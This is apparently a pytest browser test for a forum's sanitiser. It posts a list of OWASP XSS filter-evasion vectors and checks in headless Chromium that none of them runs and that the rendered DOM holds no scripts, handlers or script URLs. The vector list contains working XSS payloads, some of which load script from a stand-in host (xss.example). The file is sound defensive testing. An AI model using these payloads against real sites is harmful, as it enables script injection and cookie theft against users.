# ruff: noqa: E501 - the OWASP vectors and the DOM probe are quoted verbatim
"""OWASP XSS filter-evasion vectors, posted to the forum and opened in headless chromium.

Nothing may execute: ``alert``/``confirm``/``prompt`` and any dialog set a sentinel, and the DOM of
the rendered posts must hold no script, no event handler and no ``javascript:`` URL.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
import uvicorn
from sqlmodel import Session

from challenge.models import User
from forum.access import Actor
from forum.config import ForumConfig
from forum.interface import ForumUser
from forum.posting import create_reply, create_thread

# From the OWASP XSS Filter Evasion Cheat Sheet (a representative selection), plus Markdown forms.
# The vectors are quoted verbatim, so some lines are long.
VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    "<details open ontoggle=alert(1)>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    '<a href="&#1;javascript:alert(1)">entity link</a>',
    "[markdown link](javascript:alert('XSS'))",
    "[spaced](  javascript:alert(1)  )",
    "![markdown image](javascript:alert('XSS'))",
    "[vb](vbscript:msgbox('XSS'))",
    '<https://ok.example/" onmouseover="alert(1)>',
    "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
    "$<img src=x onerror=alert(1)>$",
    "@<img src=x onerror=alert(1)>",
]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def live_server(settings_factory: Any, sqlite_url: str) -> Iterator[tuple[str, Any]]:
    from challenge.app import create_app
    from challenge.db import make_engine

    engine = make_engine(sqlite_url)
    app = create_app(settings_factory(sqlite_url), engine)
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}", engine
    server.should_exit = True
    thread.join(timeout=10)
    engine.dispose()


@pytest.mark.browser
def test_owasp_vectors_do_not_execute(live_server: tuple[str, Any]) -> None:
    from playwright.sync_api import sync_playwright

    base, engine = live_server
    with Session(engine, expire_on_commit=False) as session:
        author = User(username="mallory", email="m@example.org", password_hash="x", role="admin")
        session.add(author)
        session.flush()
        assert author.id is not None
        actor = Actor(ForumUser(author.id, "mallory"), site_moderator=True)
        config = ForumConfig(posts_per_page=100)
        thread = create_thread(
            session, actor=actor, users=None, config=config, challenge_slug=None,
            category="general", title="<script>alert('title')</script>", body_md=VECTORS[0],
        )  # fmt: skip
        for vector in VECTORS[1:]:
            create_reply(
                session, actor=actor, users=None, config=config, thread=thread, body_md=vector
            )
        session.commit()

    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path="/usr/bin/chromium",
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        page = browser.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.add_init_script(
            "window.__xss = 0;"
            "for (const f of ['alert', 'confirm', 'prompt']) {"
            "  window[f] = () => { window.__xss += 1; }; }"
        )
        page.route(
            "**/*",
            lambda route: (
                route.continue_() if route.request.url.startswith(base) else route.abort()
            ),
        )
        for page_number in (1, 2):
            page.goto(f"{base}/forum/t/{thread.id}?page={page_number}")
            page.wait_for_load_state("load")
            # Hover and click every element in the posts: mouse handlers would fire now.
            for element in page.query_selector_all(".post-body *"):
                try:
                    element.hover(timeout=200)
                except Exception:  # noqa: S112 - hidden or detached elements cannot be hovered
                    continue
            page.wait_for_timeout(300)
            assert page.evaluate("window.__xss") == 0
            found = page.evaluate(
                """() => {
                  const bad = [];
                  for (const el of document.querySelectorAll('.post-body *, h1')) {
                    // KaTeX's own output (built in the browser from the formula's text, trust off)
                    // uses style attributes and SVG; handlers and script URLs are checked there too.
                    const katex = el.closest('.katex') !== null;
                    if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'META', 'FORM', 'INPUT', 'BUTTON']
                        .includes(el.tagName.toUpperCase())) bad.push(el.tagName);
                    if (el.tagName.toUpperCase() === 'SVG' && !katex) bad.push(el.tagName);
                    for (const a of el.attributes) {
                      const v = a.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
                      if (a.name.startsWith('on') || (a.name === 'style' && !katex) || a.name === 'srcdoc'
                          || v.startsWith('javascript:') || v.startsWith('vbscript:') || v.startsWith('data:'))
                        bad.push(el.tagName + ' ' + a.name + '=' + a.value);
                    }
                  }
                  return bad;
                }"""
            )
            assert found == []
        # The title is shown as text.
        page.goto(f"{base}/forum/t/{thread.id}")
        assert "<script>alert('title')</script>" in page.inner_text("h1")
        browser.close()
    assert dialogs == []
